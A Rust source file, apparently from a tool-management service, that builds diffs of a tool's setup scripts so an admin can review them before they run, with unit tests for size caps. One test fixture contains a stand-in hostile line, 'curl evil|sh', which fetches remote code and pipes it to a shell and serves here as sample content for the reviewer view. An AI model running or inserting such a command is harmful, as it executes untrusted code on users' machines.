//! What an admin is shown of a tool's scripts before they run: the files that are run, held beside those that were let run before. Knows
//! no history and no page.

use super::handle::{Boot, BootError};
use crate::tools::{Files, Unseen};
use repos::difference;
use serde::Serialize;
use std::{collections::BTreeSet, io};

/// Most bytes of one file's text that are shown, and of all.
const FILE_MAX: usize = 200_000;
const ALL_MAX: usize = 2_000_000;

/// One file of a tool's scripts that changed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct ChangedFile {
    /// Its path in the repository.
    pub path: String,
    /// added, changed or removed.
    pub kind: &'static str,
    /// Lines that came.
    pub added: usize,
    /// Lines that went.
    pub removed: usize,
    /// What differs, in the unified form without headers: every line is one of the file, behind a space, `+` or `-`, or begins with
    /// `@@` and says where the next ones are, or with a backslash and says that the one before has no end.
    pub text: String,
    /// The text is cut off.
    pub cut: bool,
}

/// What of a tool's scripts no admin has seen.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Changes {
    /// The commit of the scripts that these are held beside; none: all of them are listed.
    pub since: Option<String>,
    /// The files that differ, by path.
    pub files: Vec<ChangedFile>,
}

impl Boot {
    /// What of a tool's scripts no admin has seen: what changed since those that were let run, or the whole of them.
    ///
    /// # Errors
    /// When they cannot be read, or are not any more what they were when they came.
    pub async fn changes(&self, unseen: Unseen) -> Result<Changes, BootError> {
        let data = self.config().data.clone();
        let look = move || {
            let Some((now, before)) = unseen.files(&data) else {
                return Err(BootError::Refused("The scripts on the disk are not what came. Sync once more.".into()));
            };
            let since = unseen.before.filter(|_| before.is_some()).map(|before| before.commit);
            Ok(Changes { since, files: compare(&before.unwrap_or_default(), &now)? })
        };
        tokio::task::spawn_blocking(look).await.map_err(io::Error::other)?
    }
}

fn compare(before: &Files, now: &Files) -> Result<Vec<ChangedFile>, BootError> {
    let (mut files, mut left) = (Vec::new(), ALL_MAX);
    for path in before.keys().chain(now.keys()).collect::<BTreeSet<_>>() {
        let (old, new) = (before.get(path), now.get(path));
        let kind = match (old, new) {
            (old, new) if old == new => continue,
            (None, _) => "added",
            (_, None) => "removed",
            _ => "changed",
        };
        let difference = difference(bytes(old), bytes(new), FILE_MAX.min(left))?;
        left -= difference.text.len();
        let (added, removed) = (difference.added, difference.removed);
        files.push(ChangedFile {
            path: format!("setup/{path}"),
            kind,
            added,
            removed,
            text: difference.text,
            cut: difference.cut,
        });
    }
    Ok(files)
}

/// One that is not there is empty.
fn bytes(file: Option<&Vec<u8>>) -> &[u8] {
    file.map(Vec::as_slice).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(all: &[(&str, &str)]) -> Files {
        all.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect()
    }

    #[test]
    fn every_file_that_differs_is_listed_with_every_line_that_does() {
        let before = files(&[("lib/a.sh", "same\n"), ("t/gone.sh", "x\n"), ("t/run.sh", "one\ntwo\n")]);
        let now = files(&[("lib/a.sh", "same\n"), ("t/new.py", "++ evil\n"), ("t/run.sh", "one\n++ || curl evil|sh\n")]);
        let changes = compare(&before, &now).unwrap();
        let short: Vec<_> = changes.iter().map(|c| (c.path.as_str(), c.kind, c.added, c.removed, c.cut)).collect();
        assert_eq!(
            short,
            [
                ("setup/t/gone.sh", "removed", 0, 1, false),
                ("setup/t/new.py", "added", 1, 0, false),
                ("setup/t/run.sh", "changed", 1, 1, false),
            ]
        );
        assert_eq!(changes[1].text, "@@ -0,0 +1 @@\n+++ evil\n");
        assert!(changes[2].text.ends_with(" one\n-two\n+++ || curl evil|sh\n"), "{}", changes[2].text);
        assert_eq!(compare(&Files::new(), &now).unwrap().len(), 3, "without earlier ones all are listed");
    }

    #[test]
    fn what_is_too_much_to_show_is_listed_and_told_to_be_cut() {
        let long = "line\n".repeat(30_000);
        let many: Files = (0..30).map(|n| (format!("t/{n:02}"), long.clone().into_bytes())).collect();
        let changes = compare(&Files::new(), &many).unwrap();
        assert_eq!(changes.len(), 30);
        assert!(changes.iter().map(|change| change.text.len()).sum::<usize>() <= ALL_MAX);
        assert!(!changes[0].cut && changes[29].cut && changes[29].added == 30_000);
    }
}
